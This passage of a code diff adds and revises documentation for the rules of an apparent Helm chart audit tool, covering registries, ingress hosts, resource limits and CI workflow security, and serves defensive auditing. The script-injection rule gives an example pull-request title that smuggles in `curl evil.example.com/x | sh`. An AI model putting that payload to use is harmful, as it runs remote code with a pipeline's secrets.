       'https://kubernetes.io/docs/concepts/security/pod-security-standards/',
+    ],
+  },
+  'untrusted-registry': {
+    whatItChecks:
+      "The registry of every container's image, init and ephemeral containers included, against the\nregistries that are trusted. An image without a host comes from `docker.io`, and one without a\npath from `docker.io/library`. Custom resources that name images in fields of their own are not\nlooked at.\n\nNothing is judged until somebody says which registries are trusted: the profile, for all charts,\nor `.helm-audit.yaml`, for one chart, which may only trust fewer of them.",
+    whyItMatters:
+      "What runs in production is as good as the place it comes from. A public registry limits how often\nit answers, deletes what it likes, and is down when it likes, so that a node that fails at night\ncan't start its pods elsewhere. It also serves whatever its accounts push, stolen ones included.\nAn internal registry with mirrors and scans is under the team's own control.",
+    howToFix:
+      "Mirror the image, for instance with `crane copy` or the registry's own proxy, and name the mirror\nin the values; most charts have `image.registry` or `global.imageRegistry` for it.",
+    howToVerify:
+      "`helm template <chart folder> | grep 'image:'` shows trusted registries only. Then cut a test\ncluster off from public registries and delete a pod: it comes back.",
+    whenToWaive:
+      "For an image that can't be mirrored, such as one with a licence that forbids it, until there is\nanother.",
+    references: [
+      'https://kubernetes.io/docs/concepts/containers/images/#image-names',
+      'https://slsa.dev/spec/v1.0/threats',
+    ],
+  },
+  'wildcard-ingress-host': {
+    whatItChecks:
+      '`host` of every rule of every Ingress: one that is missing, empty or `*` is a finding of medium severity, one\nwith an asterisk such as `*.example.com` of low severity.',
+    whyItMatters:
+      'Ingresses of all namespaces share a controller, and so a name space of hosts. A rule without a host takes\nwhat nobody else has claimed: a host whose Ingress was deleted by mistake, or is not there yet, is then\nanswered by this service, with its cookies and its certificates, instead of by a 404. Requests to the bare\naddress of the load balancer, which scanners try first, reach the application too.\n\nWhen two services do so, the older one wins, and after a reinstallation it is the other one.',
+    howToFix:
+      'Name the host in each rule, from a value of the chart that has no default, so that whoever installs it has\nto say. Where one service answers for the host of each customer, list them or waive the finding.',
+    howToVerify:
+      "`curl -H 'Host: unknown.example.com' http://<address of the load balancer>/` gives a 404 of the controller,\nnot an answer of the service.",
+    whenToWaive:
+      'For the one service that is meant to answer what nobody else does, and for controllers that serve a single\nrelease.',
+    references: [
+      'https://kubernetes.io/docs/concepts/services-networking/ingress/#hostname-wildcards',
     ],
   },
   'writable-root-filesystem': {
@@ -2402,7 +2602,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'missing-ephemeral-storage': {
     whatItChecks:
-      'Whether scratch volumes (`emptyDir` on disk) of long-running pods are bounded, by a `sizeLimit` of\ntheir own or by limits of `ephemeral-storage` on all containers. Volumes in memory count as memory\nand are left out.',
+      'Whether scratch volumes (`emptyDir` on disk) are bounded, by a `sizeLimit` of their own or by limits of\n`ephemeral-storage` on all containers that mount them. Volumes in memory count as memory\nand are left out.',
     whyItMatters:
       'All pods of a node share its disk for scratch files and logs. A cache that never forgets, or a\nheap dump at every crash, fills it. Then the node reports disk pressure and evicts pods, also\nthose that did nothing, and images can no longer be pulled to start others. With a bound only the\npod that went wrong is evicted.',
     howToFix:
@@ -2431,7 +2631,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'missing-memory-limit': {
     whatItChecks:
-      'Whether every container, init containers and sidecars included, has a memory limit. Limits of the\nwhole pod count, and so do the defaults of a LimitRange of the same release. Pods of `helm test`\nare left out.',
+      'Whether every container, init containers and sidecars included, has a memory limit. Limits of the\nwhole pod count, and so do the defaults of a LimitRange of the same release. Pods of `helm test`\nare left out.\n\nFor init containers and hooks, which are there for a moment, a finding is of medium severity.',
     whyItMatters:
       "Memory cannot be throttled; it can only be taken away by killing somebody. With a limit, a leak\nkills the container that leaks, and it starts again. Without one the leak grows until the whole\nnode is short, and then the kernel or the kubelet picks the victims: other services, sometimes the\nnode's own agents. One bug in one service becomes an outage of a dozen.",
     howToFix:
@@ -2446,7 +2646,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'missing-memory-request': {
     whatItChecks:
-      'Whether every container, init containers and sidecars included, requests memory. A limit counts as\na request, because the API copies it. Requests and limits of the whole pod count, and so do the\ndefaults of a LimitRange of the same release. Pods of `helm test` are left out.',
+      'Whether every container, init containers and sidecars included, requests memory. A limit counts as\na request, because the API copies it. Requests and limits of the whole pod count, and so do the\ndefaults of a LimitRange of the same release. Pods of `helm test` are left out.\n\nFor init containers and hooks, which are there for a moment, a finding is of medium severity.',
     whyItMatters:
       'The scheduler packs nodes by what pods request. A container that requests nothing fits everywhere,\nso the scheduler puts it on nodes that are full already. When the node then runs out of memory,\npods that use more than they requested are evicted first: this one, always. It shows under load,\nwhen every other pod on the node grows as well, and it takes neighbours with it.',
     howToFix:
@@ -2753,7 +2953,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'codeowners-uncovered': {
     whatItChecks:
-      "Who is asked for review when values.yaml of the chart changes: the last line of CODEOWNERS\nthat matches it, in the file that the forge reads (`.github/`, the root, `docs/`, `.gitlab/`),\nsections of GitLab included, or the approvers in the nearest OWNERS file.\n\nRepositories on Azure DevOps and Bitbucket Cloud, which keep reviewers in their settings, give\nno answer. Whether the forge insists on the review can't be seen from the files either.",
+      "Who is asked for review when values.yaml or a template of the chart changes: the last line of\nCODEOWNERS that matches it, in the file that the forge reads (`.github/`, the root, `docs/`,\n`.gitlab/`), or the approvers in the nearest OWNERS file. GitLab's sections, their owners by\ndefault and what they exclude count as GitLab has it; an optional section (`^[…]`) only asks,\nand changes don't wait for the answer.\n\nRepositories on Azure DevOps and Bitbucket Cloud, which keep reviewers in their settings, give\nno answer. Whether the forge insists on the review can't be seen from the files either.",
     whyItMatters:
       'A change to a chart is a change to production: a replica count, a limit, a network policy.\nWhen nobody is asked, whoever happens to be online approves it, often somebody who knows the\nlanguage of the service but not what the value does under load. The team that is woken by the\nresult hears of the change from the pager.',
     howToFix:
@@ -2812,7 +3012,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'lonely-owner': {
     whatItChecks:
-      'The members that the catalog relates to the owning group, all owning groups together: there\nare at least two.\n\nA group with child groups, or one without a single member in the catalog, gives no answer:\nits people may be listed elsewhere or not be imported at all. Owners who are people are left\nto `individual-owner`.',
+      'The members that the catalog relates to the owning group and to the groups below it, all\nowning groups together: there are at least two.\n\nA group below it that could not be read, or not a single member in the catalog, gives no\nanswer: its people may be listed elsewhere or not be imported at all. Owners who are people\nare left to `individual-owner`.',
     whyItMatters:
       "A team of one is a person with a team's name. There is nobody to review their changes, to take\nthe second half of a long incident, or to answer the pager on the day on which they are ill.\nWhat they know exists once. How many people have to be absent before a system can no longer\nbe looked after is called its bus factor, and here it is one.",
     howToFix:
@@ -2891,7 +3091,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'missing-criticality-tier': {
     whatItChecks:
-      "The entity for a statement of how critical it is: the annotation or label `helm-audit/tier`\nwith 1 (critical path), 2 or 3, one of your own whose key ends in `tier` or `criticality`, or\na tag such as `tier-1`. A value of `helm-audit/tier` other than 1, 2 and 3 is reported too,\nbecause the audit can't follow it.",
+      "The entity for a statement of how critical it is: the annotation or label `helm-audit/tier`\nwith 1 (critical path), 2 or 3, one of your own whose key ends in `tier` or `criticality`, or\na tag such as `tier-1`. Where it has none, `tier` in `.helm-audit.yaml` counts. A value of `helm-audit/tier` other than 1, 2 and 3 is reported too,\nbecause the audit can't follow it.",
     whyItMatters:
       'Not everything can be repaired first. During an outage of a region somebody decides within\nminutes which services get the remaining capacity and whose people are woken; without tiers,\nwhoever shouts loudest wins, and card payments wait behind a reporting tool. By day the tier\ndecides how many replicas, reviews and tests are enough, and how strict this audit is.',
     howToFix:
@@ -2933,7 +3133,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'missing-on-call': {
     whatItChecks:
-      "The component and its owner in the catalog for a way to whoever is on call: an annotation of\nPagerDuty (`pagerduty.com/service-id` or `integration-key`), Opsgenie, Splunk On-Call, iLert,\nincident.io, Rootly or FireHydrant, one of your own whose key ends in `on-call` or `pager`,\nor a link to a rota.\n\nWhether anyone answers can't be seen here. Components whose lifecycle is experimental or\ndeprecated are left out.",
+      "The component and its owner in the catalog for a way to whoever is on call: an annotation of\nPagerDuty (`pagerduty.com/service-id` or `integration-key`), Opsgenie, Splunk On-Call, iLert,\nincident.io, Rootly or FireHydrant, one of your own whose key ends in `on-call` or `pager`,\nor a link to a rota. `helmAudit.ownership` in the configuration of the backend sets other\nkeys.\n\nWhether anyone answers can't be seen here. Components whose lifecycle is experimental or\ndeprecated are left out.",
     whyItMatters:
       "Alerts that reach nobody are decoration. A payment service that fails on Saturday night is\ndown until Monday when there is no rota, or until a customer's call has been passed through\nfive departments. Knowing whom to wake, and having agreed with them beforehand that they may\nbe woken, turns an outage of days into one of minutes.",
     howToFix:
@@ -3002,7 +3202,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'ownership-contradiction': {
     whatItChecks:
-      "Whether everything that names a team names the one that owns the entity in the catalog: the\nteam in CODEOWNERS for the chart, labels and annotations `team`, `squad` or `owner` of the\nchart's workloads, and the same labels of its alerts.\n\nNames are compared generously: title, display name, GitHub slug, address, parent and child\ngroups of the owner all count, and a shared word or initials are enough. Subcharts, people and\naddresses are left out, and so is CODEOWNERS when it names several teams.\n\nIf your catalog takes owners from CODEOWNERS, their agreement proves nothing.",
+      "Whether everything that names a team names the one that owns the entity in the catalog: the\nteams in CODEOWNERS for the chart, labels and annotations `team`, `squad` or `owner` of the\nchart's workloads, the same labels of its alerts, and maintainers in Chart.yaml who are called\na team.\n\nNames are compared generously: title, display name, GitHub slug, address, parent and child\ngroups of the owner all count, and a shared word or initials are enough. Subcharts, people and\naddresses are left out. Of several teams in CODEOWNERS one that fits is enough, and so is one\nmember of the owner.\n\nIf your catalog takes owners from CODEOWNERS, their agreement proves nothing; that the two agree\nis therefore no pass by itself, when nothing that is deployed names a team.",
     whyItMatters:
       "Three places that disagree are worse than one that is empty, because each of them is believed.\nThe catalog sends the auditor to one team, the alert wakes a second one, and the review of the\nfix waits for a third, while each of them is sure that it is not theirs. It happens after every\nreorganisation, when one place was updated and the others weren't.",
     howToFix:
@@ -3074,6 +3274,37 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
       'https://kubernetes.io/docs/concepts/workloads/controllers/job/#job-termination-and-cleanup',
     ],
   },
+  'broad-ci-permissions': {
+    whatItChecks:
+      '`permissions` of the workflows of GitHub, Gitea and Forgejo and of their jobs:\n\n- `write-all` for a workflow or a job;\n- scopes to write that several jobs share because they stand at the top of the workflow;\n- with low severity, jobs for which nothing is said.\n\nWorkflows that are only called by others are left out of the last.',
+    whyItMatters:
+      "Every step of a job, and every action that it runs, gets the repository's token. When one of them is taken\nover, the token decides what happens next: with `contents: read` the attacker reads a chart that is public\nanyway, with the right to write he pushes to the default branch, moves release tags and publishes a chart\nthat your clusters install within minutes. Which default holds where nothing is said is a setting of the\norganisation that no review of the repository shows.",
+    howToFix:
+      'Write `permissions: {}` or `permissions: { contents: read }` at the top of each workflow and give each job\nthe scopes that it needs: `contents: write` to publish a release, `packages: write` to push a chart or\nimage, `id-token: write` to sign or to log in to a cloud, `pull-requests: write` to comment.',
+    howToVerify:
+      'The first lines of a job\'s log, "GITHUB_TOKEN Permissions", list just those scopes, and the workflow still\nsucceeds.',
+    whenToWaive: 'For a scope that all jobs of a workflow need.',
+    references: [
+      'https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions',
+      'https://github.com/ossf/scorecard/blob/main/docs/checks.md#token-permissions',
+    ],
+  },
+  'ci-script-injection': {
+    whatItChecks:
+      'Expressions (`${{ … }}`) in the `run` of workflow steps and in scripts that are passed to actions\n(`script`, `run`, `cmd`, `command`) that stand for what a stranger may write, also by way of `env`: titles and texts of issues, pull requests, comments and reviews, commit\nmessages and their authors, and names of branches. Comparisons and `contains` give truth values and are left\nout.',
+    whyItMatters:
+      'The runner pastes the value into the script before the shell sees it. A pull request with the title\n`a"; curl evil.example.com/x | sh; "` then runs that command with the job\'s token and secrets, and no\nmaintainer needs to approve or merge anything. It is the most common hole in public pipelines because the\nline looks harmless and works in every test.',
+    howToFix:
+      'Put the expression into `env` of the step and read the variable in double quotes. In `actions/github-script`\nread it from `context.payload`, or from `process.env`.',
+    howToVerify:
+      'Open a pull request whose title is `"; echo INJECTED; "`: the log shows the title as text, and no line that\nsays only INJECTED.',
+    whenToWaive:
+      'Never for text of strangers. Where only members of the team can start the workflow, for a short time.',
+    references: [
+      'https://docs.github.com/en/actions/concepts/security/script-injections',
+      'https://securitylab.github.com/resources/github-actions-untrusted-input/',
+    ],
+  },
   'deprecated-dependency': {
     whatItChecks:
       'Whether a dependency says `deprecated: true` in its own Chart.yaml. Dependencies are read\nwhere they lie: under `charts/`, unpacked or as an archive, or elsewhere in the repository. A\ndependency that is not at hand makes the outcome unknown, unless another one fails.',
@@ -3101,6 +3332,21 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
     references: [
       'https://github.com/opencontainers/image-spec/blob/main/annotations.md',
       'https://helm.sh/docs/topics/charts/#the-chartyaml-file',
+    ],
+  },
+  'inherited-ci-secrets': {
+    whatItChecks:
+      'Jobs that call a reusable workflow with `secrets: inherit`. For workflows of this repository (`./…`) a finding\nis of low severity.',
+    whyItMatters:
+      '`inherit` hands over every secret that the caller can see, those of the organisation and those added next year\nincluded. A workflow that checks links then holds the key that signs your charts, and nobody who reads the\ncaller can tell which secrets would have to be replaced after a leak: the incident takes days instead of\nminutes.',
+    howToFix:
+      'Declare the secrets under `on.workflow_call.secrets` of the called workflow and pass each by name.',
+    howToVerify:
+      'Remove one of the names: the called workflow fails at its first line with the name of the missing secret.',
+    whenToWaive:
+      'Where the called workflow belongs to the same team and needs all secrets that there are.',
+    references: [
+      'https://docs.github.com/en/actions/how-tos/reuse-automations/reuse-workflows',
     ],
   },
   'insecure-repository': {
@@ -3220,7 +3466,7 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
   },
   'unpinned-ci-action': {
     whatItChecks:
-      "What the workflows of GitHub, Gitea and Forgejo run with `uses:`: actions, reusable workflows\nand images. An action is pinned by a full commit SHA, an image by its digest. Actions of this\nrepository and of the account that the catalog entity's `github.com/project-slug` names are\nleft out. GitHub's own actions may go by a tag, but not by a branch.",
+      "What the workflows of GitHub, Gitea and Forgejo run with `uses:`: actions, reusable workflows\nand images. An action is pinned by a full commit SHA, an image by its digest. Actions of this\nrepository and of the account that the catalog entity's `github.com/project-slug` names are\nleft out. Where only GitHub's own actions go by a tag, the finding is of low severity: their account runs the\npipeline anyway.",
     whyItMatters:
       'A tag is a label that its owner can move. When the account behind a popular action is taken\nover, the attacker moves every version tag to code that prints the secrets of each pipeline\nthat runs it. It happened in March 2025 to `tj-actions/changed-files`, which more than twenty\nthousand repositories used. The pipeline that releases your chart holds the keys to your registry\nand cluster. A commit SHA cannot be moved.',
     howToFix:
@@ -3266,6 +3512,22 @@ export const ruleDocs: Readonly<Record<string, RuleDoc>> = {
       'https://helm.sh/docs/topics/provenance/',
       'https://docs.sigstore.dev/cosign/signing/signing_with_containers/',
       'https://github.com/ossf/scorecard/blob/main/docs/checks.md#signed-releases',
+    ],
+  },
+  'untrusted-ci-trigger': {
+    whatItChecks:
+      "Workflows of GitHub, Gitea and Forgejo that start on `pull_request_target` or `workflow_run`. One that\nfetches the code of the pull request and runs something of it, without waiting for a maintainer's label, is a finding of high\nseverity, `workflow_run` alone one of low severity.\nWorkflows that only set labels with `actions/labeler` are left out.",
+    whyItMatters:
+      "A workflow on `pull_request` of a fork gets no secrets and a token that only reads. One on\n`pull_request_target` or `workflow_run` gets both in full, whoever opened the pull request. As soon as it\nbuilds, tests or only installs what the change brings, a stranger's `Makefile` runs with the keys of your\nregistry. In 2025 a good number of widely used actions and packages were taken over that way, and with them\neverybody who installed them.",
+    howToFix:
+      'Build and test on `pull_request`. If a comment or a label needs the token, split it: the first workflow\nuploads plain data as an artifact, the second starts on `workflow_run`, reads the artifact as data and runs\nnone of it. Deployments of previews can wait for an environment with required reviewers.',
+    howToVerify:
+      "Open a pull request from a fork that adds `env | sort` to the build: its log shows no secret, and the\ntoken's permissions are to read only.",
+    whenToWaive:
+      'For workflows that run nothing of the change and pass nothing of it to a shell, after a second pair of eyes\nhas confirmed it.',
+    references: [
+      'https://docs.github.com/en/actions/reference/security/secure-use',
+      'https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/',
     ],
   },
   'unverified-vendored-archive': {
